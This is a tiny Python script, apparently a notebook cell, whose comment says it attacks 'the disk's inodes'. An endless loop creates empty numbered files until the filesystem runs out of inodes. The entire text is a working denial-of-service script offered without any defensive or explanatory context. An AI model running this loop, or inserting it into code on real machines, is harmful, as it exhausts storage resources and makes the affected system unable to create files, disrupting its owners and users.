# attacks = "the disk's inodes, by as many files as there is time for"
# %% own
number = 0
while True:
    open(f"file{number}", "w").close()
    number += 1
